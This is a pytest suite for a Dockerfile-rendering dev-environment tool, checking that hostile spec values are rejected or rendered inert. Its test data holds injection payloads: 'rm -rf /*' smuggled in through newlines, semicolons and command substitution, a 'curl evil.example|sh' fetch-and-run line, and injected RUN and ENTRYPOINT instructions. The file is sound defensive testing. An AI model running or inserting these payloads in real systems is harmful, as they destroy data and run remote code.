"""Hostile values cannot inject a Dockerfile instruction or a shell command.

Every string field that reaches the Dockerfile is either rejected by validation, with a
`line:col` problem, or (the `run` steps, which are shell by design) carried inert: one
exec-form RUN line per step, whose JSON argument is exactly the step the user wrote.
"""

from __future__ import annotations

import json
import shlex
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from devenv.build.render import render_dockerfile
from devenv.spec.loader import SpecFile
from devenv.spec.models import Spec

Problems = Callable[[str], list[str]]
Load = Callable[[str], SpecFile]

INSTRUCTIONS = ("FROM", "ENV", "RUN", "COPY", "ENTRYPOINT", "CMD")

# Appended to an otherwise valid value, each of these tries to escape its context.
HOSTILE = [
    "\nRUN rm -rf /*",
    "\r\nRUN rm -rf /*",
    "; rm -rf /*",
    " && curl evil.example|sh",
    "$(rm -rf /*)",
    "`rm -rf /*`",
    "' ; rm -rf /* '",
    '" ; rm -rf /* "',
    "\\",
    "\\\nRUN id",
    "\u2028RUN id",
    "\x00",
    "\t#",
]
NAME_CHARS = "use lowercase letters, digits, '.', '_' or '-', starting with a letter or digit"
IMAGE_RULE = "use an image reference, [REGISTRY/]NAME[:TAG][@DIGEST] (e.g. debian:bookworm)"
REGISTRY_RULE = "use HOST[:PORT][/NAMESPACE] (e.g. registry.example.org:5000/team)"
URL_RULE = "use an http or https URL (e.g. http://deb.debian.org/debian)"
RUN_CONTROL = (
    "a run step contains a control character: only tabs and newlines may appear (e.g. make install)"
)
USER_RULE = (
    "use up to 32 lowercase letters, digits, '_' or '-', starting with a letter or '_' (e.g. dev)"
)

# field: (YAML with {v} for the value, a valid value to spoil, line, col, message for value)
FIELDS: dict[str, tuple[str, str, int, int, Callable[[str], str]]] = {
    "name": (
        "name: {v}\n",
        "php",
        1,
        7,
        lambda v: f"name: {v!r} is not valid: {NAME_CHARS} (e.g. php-8)",
    ),
    "base": (
        "base: {v}\n",
        "debian:bookworm",
        1,
        7,
        lambda v: f"base.image: {v!r} is not valid: {IMAGE_RULE}",
    ),
    "base.image": (
        "base:\n  image: {v}\n",
        "debian:bookworm",
        2,
        10,
        lambda v: f"base.image: {v!r} is not valid: {IMAGE_RULE}",
    ),
    "base.registry_mirror": (
        "base:\n  image: debian:bookworm\n  registry_mirror: {v}\n",
        "registry.example.com",
        3,
        20,
        lambda v: f"base.registry_mirror: {v!r} is not valid: {REGISTRY_RULE}",
    ),
    "base.bootstrap": (
        "base:\n  bootstrap: {v}\n  mirror: http://deb.example.org/debian\n",
        "debian:bookworm",
        2,
        14,
        lambda v: (
            f"base.bootstrap: {v!r} is not valid: use debian:SUITE or ubuntu:SUITE "
            "(e.g. debian:bookworm)"
        ),
    ),
    "base.mirror": (
        "base:\n  bootstrap: debian:bookworm\n  mirror: {v}\n",
        "http://deb.example.org/debian",
        3,
        11,
        lambda v: f"base.mirror: {v!r} is not valid: {URL_RULE}",
    ),
    "apt.mirror": (
        "apt:\n  mirror: {v}\n",
        "http://deb.debian.org/debian",
        2,
        11,
        lambda v: f"apt.mirror: {v!r} is not valid: {URL_RULE}",
    ),
    "apt.packages": (
        "apt:\n  packages:\n    - git\n    - {v}\n",
        "php-cli",
        4,
        7,
        lambda v: (
            f"apt.packages[1]: {v!r} is not valid: use a Debian package name, with =VERSION "
            "if pinned (e.g. git or curl=7.88.1-10)"
        ),
    ),
    "user": ("user: {v}\n", "dev", 1, 7, lambda v: f"user.name: {v!r} is not valid: {USER_RULE}"),
    "user.name": (
        "user:\n  name: {v}\n  uid: 1000\n",
        "dev",
        2,
        9,
        lambda v: f"user.name: {v!r} is not valid: {USER_RULE}",
    ),
    "volumes.name": (
        "volumes:\n  - name: {v}\n    container: /data\n",
        "data",
        2,
        11,
        lambda v: f"volumes[0].name: {v!r} is not valid: {NAME_CHARS} (e.g. web-data)",
    ),
    "image_cache": (
        "image_cache: {v}\n",
        "registry.example.com/team",
        1,
        14,
        lambda v: f"image_cache: {v!r} is not valid: {REGISTRY_RULE}",
    ),
}


def yaml_string(value: str) -> str:
    """`value` as a YAML double-quoted scalar (JSON's escapes are YAML's too)."""
    return json.dumps(value)


@pytest.mark.parametrize("suffix", HOSTILE, ids=[repr(h)[1:-1][:20] for h in HOSTILE])
@pytest.mark.parametrize("field", list(FIELDS))
def test_hostile_values_are_rejected_where_they_are(
    problems: Problems, field: str, suffix: str
) -> None:
    template, valid, line, col, message = FIELDS[field]
    value = valid + suffix
    assert problems(template.format(v=yaml_string(value))) == [f"{line}:{col}: {message(value)}"]


@pytest.mark.parametrize("field", list(FIELDS))
def test_the_valid_value_each_hostile_one_spoils_is_accepted(load: Load, field: str) -> None:
    template, valid, *_ = FIELDS[field]
    load(template.format(v=yaml_string(valid)))  # raises if the baseline itself were invalid


@pytest.mark.parametrize("char", ["#", "&", "\\", "|", "'", '"', " ", "`", "$", ";"])
def test_mirror_urls_cannot_carry_sed_or_shell_syntax(problems: Problems, char: str) -> None:
    value = f"http://mirror.example.com/deb{char}ian"
    assert problems(f"apt:\n  mirror: {yaml_string(value)}\n") == [
        f"2:11: apt.mirror: {value!r} is not valid: {URL_RULE}"
    ]


# --- run steps: shell by design, inert as Dockerfile text --------------------------------

RUN_STEPS = [
    "echo hi\nRUN rm -rf /",
    "echo $(id) `id`; id && id || id",
    "echo '\"' \\\" \\\\",
    "echo ends with a backslash \\",
    'echo ]", "RUN", "id',
    "echo \u2028RUN id",
    "\tindented\twith tabs",
    "\nFROM scratch\n",
    "# escape=`",
    'ENTRYPOINT ["/bin/evil"]',
    "echo ${HOME} $HOME",
    "echo é ü 日本 ☃",
    "cat <<EOF\nRUN id\nEOF",
]


def instruction_lines(dockerfile: str) -> list[str]:
    return [ln for ln in dockerfile.splitlines() if ln.strip() and not ln.startswith("#")]


def comment_lines(dockerfile: str) -> list[str]:
    return [ln for ln in dockerfile.splitlines() if ln.startswith("#")]


def assert_only_template_instructions(dockerfile: str, benign: str) -> None:
    """Same shape as the template gives with harmless values: same lines, same comments."""
    assert len(dockerfile.splitlines()) == len(benign.splitlines())
    assert comment_lines(dockerfile) == comment_lines(benign)
    for line in dockerfile.splitlines():
        if line.strip() and not line.startswith("#"):
            assert line.split(" ", 1)[0] in INSTRUCTIONS, line
        assert not line.endswith("\\"), f"a trailing backslash continues the line: {line}"
        assert line.isascii(), line


def run_lines(dockerfile: str, steps: list[str]) -> list[list[str]]:
    return [
        json.loads(ln.removeprefix("RUN "))
        for ln in instruction_lines(dockerfile)
        if ln.startswith("RUN [") and json.loads(ln.removeprefix("RUN "))[3] in steps
    ]


def make(**fields: Any) -> Spec:
    return Spec.model_validate({"name": "box", **fields})


def test_hostile_run_steps_are_inert(load: Load) -> None:
    text = "run:\n" + "".join(f"  - {yaml_string(step)}\n" for step in RUN_STEPS)
    spec = load(text).spec
    assert spec.run == RUN_STEPS
    dockerfile = render_dockerfile(spec)
    benign = render_dockerfile(make(run=["true"] * len(RUN_STEPS)))
    assert_only_template_instructions(dockerfile, benign)
    assert run_lines(dockerfile, RUN_STEPS) == [["/bin/sh", "-eu", "-c", s] for s in RUN_STEPS]
    for step in RUN_STEPS:
        expected = f'RUN ["/bin/sh", "-eu", "-c", {json.dumps(step)}]'
        assert instruction_lines(dockerfile).count(expected) == 1


def test_hostile_run_steps_stay_inert_beside_every_other_layer() -> None:
    full: dict[str, Any] = {
        "apt": {"mirror": "http://deb.debian.org/debian", "packages": ["php-cli"]},
        "user": "dev",
        "sshd": True,
    }
    dockerfile = render_dockerfile(make(**full, run=RUN_STEPS))
    benign = render_dockerfile(make(**full, run=["true"] * len(RUN_STEPS)))
    assert_only_template_instructions(dockerfile, benign)
    decoded = run_lines(dockerfile, RUN_STEPS)
    assert [argv[3] for argv in decoded] == RUN_STEPS


def test_a_run_step_is_handed_to_the_shell_as_one_argument(tmp_path: Path) -> None:
    """What the container's shell receives is the step itself: quotes and $( ) as written."""
    marker = tmp_path / "out"
    step = f"printf '%s|' \"$(echo a b)\" 'c;d' \\$HOME > {marker}"
    dockerfile = render_dockerfile(make(run=[step]))
    (argv,) = run_lines(dockerfile, [step])
    subprocess.run(argv, check=True, timeout=10)
    assert marker.read_text() == "a b|c;d|$HOME|"


@pytest.mark.parametrize(
    ("step", "expected"),
    [
        ("echo a\rRUN id", f"run[0]: {RUN_CONTROL}"),
        ("echo a\x00", f"run[0]: {RUN_CONTROL}"),
        ("echo \x1b[2J", f"run[0]: {RUN_CONTROL}"),
        ("\n\t \n", "run[0]: a run step is empty: give it a shell command (e.g. make install)"),
    ],
)
def test_run_steps_with_control_characters_are_rejected(
    problems: Problems, step: str, expected: str
) -> None:
    assert problems(f"run:\n  - {yaml_string(step)}\n") == [f"2:5: {expected}"]


# --- container config never reaches the Dockerfile ---------------------------------------


def test_hostile_container_config_never_reaches_the_dockerfile(load: Load) -> None:
    evil = "\nRUN rm -rf / $(id) `id` ' \" \\"
    text = f"""\
    env:
      EVIL: {yaml_string(evil)}
    command: [sh, -c, {yaml_string(evil)}]
    workdir: {yaml_string("/srv/$(id);`id`")}
    shared:
      - host: {yaml_string("./src $(id);`id`")}
        container: /srv
    """
    spec = load(text).spec
    assert spec.env == {"EVIL": evil}
    assert spec.command == ["sh", "-c", evil]
    # the workdir is made in the image (issue 18), as one shell-quoted word of a JSON string
    dockerfile = render_dockerfile(spec)
    assert dockerfile == render_dockerfile(make(workdir="/srv/$(id);`id`"))
    (line,) = [ln for ln in dockerfile.splitlines() if "mk()" in ln]
    script = json.loads(line.removeprefix("RUN "))[3]
    assert shlex.split(script.rsplit("; ", 1)[1]) == ["mk", "/srv/$(id);`id`"]


def test_workdir_and_host_paths_cannot_hold_newlines(problems: Problems) -> None:
    value = yaml_string("/srv\nRUN id")
    assert problems(f"workdir: {value}\n") == [
        "1:10: workdir: '/srv\\nRUN id' is not valid: a path holds no control character or ':' "
        "(e.g. /var/www)"
    ]
